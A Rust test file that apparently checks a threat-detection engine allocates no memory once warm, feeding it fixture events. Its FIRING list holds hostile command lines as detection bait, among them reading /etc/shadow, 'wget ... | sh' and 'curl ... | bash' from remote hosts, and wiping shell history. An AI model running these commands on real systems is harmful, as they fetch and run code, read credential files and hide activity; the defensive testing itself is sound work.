// SPDX-License-Identifier: AGPL-3.0-or-later
//! Neither evaluation nor a tag run allocates once warm: counted, on events that were not seen before.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test stops at the first surprise and says so")]

use std::alloc::System;

use decnet_ttp::compile::logs::Logs;
use decnet_ttp::compile::program::Plan;
use decnet_ttp::compile::sigma;
use decnet_ttp::diag::{Diagnostics, Sources};
use decnet_ttp::engine::{LogEngine, Scratch};
use decnet_ttp::event::{Block, MemberList, RawObject};
use decnet_ttp::tag::{CONFIDENCE_FLOOR, Ingest, Report};
use decnet_ttp::vocab::Limits;
use decnet_ttp::{Engine, Event, compile};
use stats_alloc::{INSTRUMENTED_SYSTEM, Region, StatsAlloc};

#[global_allocator]
static GLOBAL: &StatsAlloc<System> = &INSTRUMENTED_SYSTEM;

/// Command lines of many shapes; `salt` makes every one of them new.
fn lines(salt: usize) -> Vec<String> {
    const SILENT: [&str; 8] = [
        "ls -la /srv/app{}",
        "echo hello {}",
        "vim notes-{}.txt",
        "make -j{}",
        "tar tf backup-{}.tar",
        "grep -rn TODO src/{}",
        "df -h /mnt/{}",
        "printf 'naïve {}\u{301} ß'",
    ];
    const FIRING: [&str; 9] = [
        "cat /etc/shadow # {}",
        "wget http://198.51.100.{}/x.sh -O- | sh",
        "find / -perm -4000 -type f 2>/dev/null; echo {}",
        "useradd -m -s /bin/bash user{}",
        "history -c; rm -f ~/.bash_history; echo {}",
        "nmap -sS 10.0.0.{}",
        "python3 -c 'import os; os.system(\"id {}\")'",
        "echo {} é; cat /etc/passwd",
        "WGET http://é.example/{}; curl http://x/{} | bash",
    ];
    SILENT
        .iter()
        .chain(&FIRING)
        .enumerate()
        .map(|(index, text)| {
            let command = text.replace("{}", &format!("{salt}"));
            let payload = serde_json::json!({
                "command_text": command, "uid": "0", "user": "root", "src": "203.0.113.7", "pwd": "/root",
            });
            let escaped = payload.to_string().replace('/', if index % 3 == 0 { "\\/" } else { "/" });
            format!(
                r#"{{"source_kind":"command","source_id":"s{salt}#{index}","attacker_uuid":"a","payload":{escaped}}}"#
            )
        })
        .collect()
}

fn evaluate(engine: &Engine, scratch: &mut Scratch, lines: &[Event<'_>]) -> usize {
    lines.iter().map(|event| engine.evaluate_with(event, scratch).len()).sum()
}

/// Events whose rules choose, collect and compute values for their tags.
fn computing(salt: usize) -> Vec<String> {
    let payloads = [
        (
            "intel",
            serde_json::json!({
                "abuseipdb_score": salt % 100, "abuseipdb_categories": [18, 22, salt % 30, 11],
                "greynoise_classification": "malicious", "greynoise_tags": ["havoc", format!("t{salt}")],
                "feodo_listed": true, "threatfox_threat_types": ["botnet_cc"], "threatfox_confidence": 50,
            }),
        ),
        (
            "email",
            serde_json::json!({
                "from_domain": format!("a{salt}.example"), "return_path_domain": "b.example", "spf_pass": false,
                "urls": [format!("https://u:p@xn--{salt}.example:81/")], "attachment_extensions": [".LNK"],
                "rcpt_count": 40, "body_simhash": format!("{salt:x}"), "rcpt_domains": ["B.example"],
            }),
        ),
        ("canary_fingerprint", serde_json::json!({ "tz_mismatch_zones": salt % 10 })),
    ];
    payloads
        .iter()
        .map(|(kind, payload)| {
            let event = serde_json::json!({ "source_kind": kind, "source_id": "s", "payload": payload });
            event.to_string()
        })
        .collect()
}

/// One test, since what is counted is the whole process's.
#[test]
fn nothing_is_allocated_once_warm() {
    evaluate_with_allocates_nothing_once_warm();
    tag_runs_allocate_less_than_once_in_a_thousand_events();
    log_records_allocate_nothing_once_warm();
}

fn log_records_allocate_nothing_once_warm() {
    let rule = "title: Shadow file\nlogsource: {product: linux}\n\
                detection: {sel: {CommandLine|contains: [/etc/shadow, naïve]}, words: [' -perm '], condition: sel or words}\n";
    let (limits, mut sources, mut problems) = (Limits::default(), Sources::default(), Diagnostics::new());
    let rules = sigma::rules(&[("shadow.yml".into(), rule.into())], &limits, &mut sources, &mut problems);
    assert!(problems.is_empty());
    let engine = LogEngine::new(Logs::new(rules, Plan::default(), limits.clone()));
    let records = |salt| -> Vec<String> {
        let named = |(index, line): (usize, String)| {
            // A sensor that writes names as people do, and ones that no rule knows.
            let product = ["Linux", "linux", "Plan 9", ""].into_iter().nth(index % 4).unwrap_or_default();
            let event: serde_json::Value = serde_json::from_str(&line).unwrap();
            let command = event.pointer("/payload/command_text");
            let rest = serde_json::json!({"pid": salt, "ok": true, "tags": [format!("t{salt}"), 4.5]});
            serde_json::json!({"product": product, "CommandLine": command, "more": rest}).to_string()
        };
        lines(salt).into_iter().enumerate().map(named).collect()
    };
    let (mut scratch, mut list) = (engine.scratch(), MemberList::new());
    let mut read = |lines: &[String]| -> usize {
        let mut matches = 0;
        for line in lines {
            let record = RawObject::parse_with(line, &limits, &mut list).unwrap();
            matches += engine.evaluate_with(record, &mut scratch).len();
        }
        matches
    };
    let warm: Vec<String> = (1000..1100).flat_map(records).collect();
    let unseen: Vec<String> = (5000..5100).flat_map(records).collect();
    read(&warm);
    let region = Region::new(GLOBAL);
    let matches = read(&unseen);
    let change = region.change();
    assert!(matches >= 100, "{matches} matches: the firing lines do not fire");
    assert_eq!(change.allocations + change.reallocations, 0, "{change:?}");
}

fn evaluate_with_allocates_nothing_once_warm() {
    let engine = Engine::new(compile::builtin().unwrap());
    let mut scratch = engine.scratch();
    let limits = Limits::default();
    let all = |salt| lines(salt).into_iter().chain(computing(salt));
    let warm: Vec<String> = (1000..1020).flat_map(all).collect();
    let unseen: Vec<String> = (5000..5100).flat_map(all).collect();
    let parse = |lines: &[String]| -> Vec<Event<'static>> {
        lines
            .iter()
            .map(|line| Event::parse(Box::leak(line.clone().into_boxed_str()), &limits).unwrap())
            .collect()
    };
    let (warm, unseen) = (parse(&warm), parse(&unseen));
    evaluate(&engine, &mut scratch, &warm);
    let region = Region::new(GLOBAL);
    let hits = evaluate(&engine, &mut scratch, &unseen);
    let change = region.change();
    assert!(hits > 500, "{hits} hits: the firing lines do not fire");
    assert_eq!(change.allocations + change.reallocations, 0, "{change:?}");

    // From the bytes on, with a list of members; an id with an escape would be owned.
    let mut list = MemberList::new();
    let mut read = |lines: &[String]| -> usize {
        lines
            .iter()
            .map(|line| {
                let event = Event::parse_with(line, &limits, &mut list).unwrap();
                engine.evaluate_with(&event, &mut scratch).len()
            })
            .sum()
    };
    let warm: Vec<String> = (1000..1020).flat_map(all).collect();
    let unseen: Vec<String> = (6000..6100).flat_map(all).collect();
    read(&warm);
    let region = Region::new(GLOBAL);
    let hits = read(&unseen);
    let change = region.change();
    assert!(hits > 500, "{hits} hits: the firing lines do not fire");
    assert_eq!(change.allocations + change.reallocations, 0, "{change:?}");
}

/// What a tag run does with every block: its lines evaluated, its tags written, its report added to all.
struct TagRun<'e> {
    ingest: Ingest<'e>,
    out: Vec<u8>,
    report: Report,
    total: Report,
}

impl TagRun<'_> {
    fn block(&mut self, block: &Block) {
        self.out.clear();
        self.ingest.block(block, 0, &mut self.out, &mut self.report);
        self.total.absorb(&mut self.report);
    }
}

fn blocks(salts: std::ops::Range<usize>, per_block: usize) -> (Vec<Block>, usize) {
    let all: Vec<String> = salts.flat_map(lines).collect();
    let block = |lines: &[String]| Block::from_bytes(lines.join("\n").into_bytes(), 1);
    (all.chunks(per_block).map(block).collect(), all.len())
}

/// Allocations of a run over blocks that were not seen before, and its events and tags.
fn allocations_of(per_event: bool) -> (usize, usize, u64) {
    let engine = Engine::new(compile::builtin().unwrap());
    let limits = Limits::default();
    let mut run = TagRun {
        ingest: Ingest::new(&engine, CONFIDENCE_FLOOR, per_event, &limits),
        out: Vec::new(),
        report: Report::default(),
        total: Report::default(),
    };
    let (warm, _) = blocks(1000..1200, 3400);
    let (unseen, events) = blocks(5000..5600, 3400);
    warm.iter().for_each(|block| run.block(block));
    let before = run.total.tags;
    let region = Region::new(GLOBAL);
    unseen.iter().for_each(|block| run.block(block));
    let change = region.change();
    (change.allocations + change.reallocations, events, run.total.tags - before)
}

fn tag_runs_allocate_less_than_once_in_a_thousand_events() {
    for per_event in [false, true] {
        let (allocations, events, tags) = allocations_of(per_event);
        assert!(events >= 10_000 && tags > 5000, "{tags} tags of {events} events");
        assert!(allocations * 1000 <= events, "{allocations} allocations for {events} events");
    }
}
